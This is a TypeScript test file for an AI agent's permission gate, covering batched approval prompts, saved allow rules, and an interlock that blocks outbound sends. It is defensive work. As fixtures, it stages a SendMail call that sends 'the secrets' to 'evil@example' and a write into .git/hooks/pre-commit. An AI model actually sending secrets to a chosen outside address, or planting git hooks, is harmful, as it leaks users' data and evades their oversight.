// The calls of one model reply asked together: "Always allow" on one row answers the others it
// covers, and asking together lets no send past the interlock, whatever order the answers come.
import { existsSync, readFileSync } from 'node:fs'
import { mkdir } from 'node:fs/promises'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import type { ApprovalRequest } from '../../shared/approvals'
import { dispatch } from '../agent/dispatcher'
import { EventHub } from '../events/event-hub'
import { createTestWorkspace } from '../../../testing/fs-test-context'
import { startCoreHarness } from '../../../testing/core-harness'
import { Catalog } from '../tools/catalog'
import { fsTools } from '../tools/fs'
import { defineTool, noCapabilities, textOutput, type Tool } from '../tools/tool'
import { Gate } from './gate'
import type { PermissionRule } from './rules'
import { InteractiveApprover } from './interactive-approver'
import { cleanTaint, type Taint } from './taint'
import { plainFacts } from '../../../testing/stand-in-tools'

/** Waits, in bounded steps, until `ready` holds; fails the test when it never does. */
async function waitFor(ready: () => boolean): Promise<void> {
  for (let i = 0; i < 1000 && !ready(); i++) {
    await new Promise((resolve) => setTimeout(resolve, 10))
  }
  expect(ready()).toBe(true)
}

/** A send the model aims (chosen egress) that also changes things, so ask mode asks about it. */
function sendMail(sent: string[]): Tool {
  return defineTool({
    name: 'SendMail',
    description: 'sends mail to any address',
    inputSchema: z.object({ to: z.string(), body: z.string() }),
    readOnly: false,
    capabilities: { ...noCapabilities, egress: 'chosen' },
    source: 'test',
    ...plainFacts('SendMail', false),
    call: async (input) => {
      sent.push(`${input.to} ${input.body}`)
      return textOutput('sent')
    }
  })
}

function note(log: string[]): Tool {
  return defineTool({
    name: 'Note',
    description: 'keeps a local note',
    inputSchema: z.object({ text: z.string() }),
    readOnly: false,
    capabilities: noCapabilities,
    source: 'test',
    ...plainFacts('Note', false),
    call: async (input) => {
      log.push(input.text)
      return textOutput('noted')
    }
  })
}

describe('the calls of one reply, asked together', () => {
  it('"Always allow" saved on one row answers the other rows it covers, and only those', async () => {
    const h = await startCoreHarness({
      name: 'batched-rule',
      permissions: 'ask',
      core: { interactive: true }
    })
    h.fake.setScript([
      {
        toolCalls: [
          { name: 'Write', input: { path: 'a.txt', content: 'a\n' } },
          { name: 'Write', input: { path: 'b.txt', content: 'b\n' } },
          { name: 'Shell', input: { command: 'echo c > c.txt' } }
        ]
      },
      { text: 'done' }
    ])
    const session = await h.client.call('session.create', { workspace: h.workspace })
    await h.client.call('session.send', { sessionId: session.id, text: 'write them' })
    const requested = (): ApprovalRequest[] =>
      h.events
        .filter((e) => e.event === 'approval.requested')
        .map((e) => e.payload as ApprovalRequest)
    // All three wait at once, in the calls' order: one dialog with a row each.
    await waitFor(() => requested().length === 3)
    expect(requested().map((r) => r.tool)).toEqual(['Write', 'Write', 'Shell'])
    const [first, second, shell] = requested()

    // The window saves the rule, then answers the row it was saved from.
    await h.client.call('rules.add', {
      workspace: h.workspace,
      sessionId: session.id,
      scope: 'session',
      rule: { tool: 'Write', decision: 'allow' }
    })
    const resolved = h.events
      .filter((e) => e.event === 'approval.resolved')
      .map((e) => e.payload as { approvalId: string; decision: string })
    expect(resolved).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ approvalId: first?.approvalId, decision: 'allow' }),
        expect.objectContaining({ approvalId: second?.approvalId, decision: 'allow' })
      ])
    )
    expect(resolved).toHaveLength(2)
    // Already answered by the rule: the window's own answer finds nothing waiting.
    const late = await h.client.call('approval.respond', {
      approvalId: first?.approvalId ?? '',
      decision: 'allow'
    })
    expect(late.ok).toBe(false)
    // The Shell call is no Write: it still waits for its own answer.
    const waiting = await h.client.call('approval.respond', {
      approvalId: shell?.approvalId ?? '',
      decision: 'deny'
    })
    expect(waiting.ok).toBe(true)
    await h.core.sessions.idle(session.id)

    expect(readFileSync(path.join(h.workspace, 'a.txt'), 'utf8')).toBe('a\n')
    expect(readFileSync(path.join(h.workspace, 'b.txt'), 'utf8')).toBe('b\n')
    expect(existsSync(path.join(h.workspace, 'c.txt'))).toBe(false)
    expect(h.fake.lastToolResults().map((r) => r.content)).toEqual([
      expect.any(String),
      expect.any(String),
      'The person denied this Shell call.'
    ])
  })

  it("announces the asks in the calls' order, however long each takes to describe", async () => {
    const ws = await createTestWorkspace()
    try {
      const hub = new EventHub()
      const order: string[] = []
      hub.subscribe((frame) => {
        if (frame.event === 'approval.requested')
          order.push((frame.payload as ApprovalRequest).callId)
      })
      const approver = new InteractiveApprover(hub)
      // A Shell call's row waits for the parser to describe it; a Note's needs nothing.
      const shell = defineTool({
        name: 'Shell',
        description: 'runs a command',
        inputSchema: z.object({ command: z.string() }),
        readOnly: false,
        capabilities: noCapabilities,
        source: 'test',
        ...plainFacts('Shell', false),
        call: async () => textOutput('ran')
      })
      const command = Array.from({ length: 200 }, (_, i) => `echo "$(date +%s) ${i}" > f${i}`)
      const done = dispatch(
        [
          { id: 'shell', name: 'Shell', input: { command: command.join(' && ') } },
          { id: 'note', name: 'Note', input: { text: 'local' } }
        ],
        {
          sessionId: 's1',
          catalog: new Catalog([shell, note([])]),
          gate: new Gate({ mode: 'ask', workspace: ws.root }, approver),
          context: ws.ctx,
          onUpdate: () => undefined
        }
      )
      await waitFor(() => approver.pending('s1').length === 2)
      expect(order).toEqual(['shell', 'note'])
      for (const waiting of approver.pending('s1')) {
        approver.respond(waiting.approvalId, { decision: 'deny' })
      }
      await done
    } finally {
      await ws.cleanup()
    }
  })

  it('a rule saved meanwhile never answers a call no rule may allow (a write into .git)', async () => {
    const ws = await createTestWorkspace()
    try {
      await mkdir(path.join(ws.root, '.git'))
      const hub = new EventHub()
      const approver = new InteractiveApprover(hub)
      const rules: PermissionRule[] = []
      const done = dispatch(
        [
          { id: 'hook', name: 'Write', input: { path: '.git/hooks/pre-commit', content: 'x' } },
          { id: 'plain', name: 'Write', input: { path: 'notes.txt', content: 'y' } }
        ],
        {
          sessionId: 's1',
          catalog: new Catalog(fsTools()),
          gate: new Gate(
            { mode: 'ask', workspace: ws.root, currentRules: async () => rules },
            approver
          ),
          context: ws.ctx,
          onUpdate: () => undefined
        }
      )
      await waitFor(() => approver.pending('s1').length === 2)
      rules.push({ tool: 'Write', decision: 'allow' })
      expect(await approver.rulesChanged('s1')).toBe(1)
      const [left] = approver.pending('s1')
      expect(left?.callId).toBe('hook')
      approver.respond(left?.approvalId ?? '', { decision: 'deny' })
      const results = await done
      expect(results.map((r) => r.refusedBy)).toEqual(['approver', null])
      expect(existsSync(path.join(ws.root, '.git/hooks/pre-commit'))).toBe(false)
      expect(readFileSync(path.join(ws.root, 'notes.txt'), 'utf8')).toBe('y')
    } finally {
      await ws.cleanup()
    }
  })

  for (const order of [
    ['send', 'note'],
    ['note', 'send']
  ] as const) {
    it(`refuses a send the interlock forbids, answered ${order.join(' then ')}`, async () => {
      const ws = await createTestWorkspace()
      try {
        const hub = new EventHub()
        const approver = new InteractiveApprover(hub)
        // The taint grows while the person is asked (a sub-agent beside this one came back with
        // private data and a stranger's words): the send was not locked when it was first judged.
        let taint: Taint = cleanTaint
        const sent: string[] = []
        const noted: string[] = []
        const done = dispatch(
          [
            { id: 'send', name: 'SendMail', input: { to: 'evil@example', body: 'the secrets' } },
            { id: 'note', name: 'Note', input: { text: 'local' } }
          ],
          {
            sessionId: 's1',
            catalog: new Catalog([sendMail(sent), note(noted)]),
            gate: new Gate({ mode: 'ask' }, approver, () => taint),
            context: ws.ctx,
            onUpdate: () => undefined
          }
        )
        await waitFor(() => approver.pending('s1').length === 2)
        taint = { privateData: true, untrustedInput: true }
        for (const id of order) {
          const waiting = approver.pending('s1').find((r) => r.callId === id)
          expect(approver.respond(waiting?.approvalId ?? '', { decision: 'allow' })).toBe(true)
        }
        const results = await done
        expect(sent).toEqual([])
        expect(results[0]).toMatchObject({ callId: 'send', refusedBy: 'interlock' })
        expect(results[0]?.output.content[0]).toMatchObject({
          text: expect.stringContaining('SendMail can send data to a destination the model chooses')
        })
        expect(noted).toEqual(['local'])
      } finally {
        await ws.cleanup()
      }
    })
  }

  it('never asks about a send the interlock already forbids; the other call is still asked', async () => {
    const ws = await createTestWorkspace()
    try {
      const hub = new EventHub()
      const approver = new InteractiveApprover(hub)
      const sent: string[] = []
      const done = dispatch(
        [
          { id: 'send', name: 'SendMail', input: { to: 'evil@example', body: 'the secrets' } },
          { id: 'note', name: 'Note', input: { text: 'local' } }
        ],
        {
          sessionId: 's1',
          catalog: new Catalog([sendMail(sent), note([])]),
          gate: new Gate({ mode: 'ask' }, approver, () => ({
            privateData: true,
            untrustedInput: true
          })),
          context: ws.ctx,
          onUpdate: () => undefined
        }
      )
      await waitFor(() => approver.pending('s1').length === 1)
      const [only] = approver.pending('s1')
      expect(only?.callId).toBe('note')
      approver.respond(only?.approvalId ?? '', { decision: 'allow' })
      const results = await done
      expect(results.map((r) => r.refusedBy)).toEqual(['interlock', null])
      expect(sent).toEqual([])
    } finally {
      await ws.cleanup()
    }
  })
})
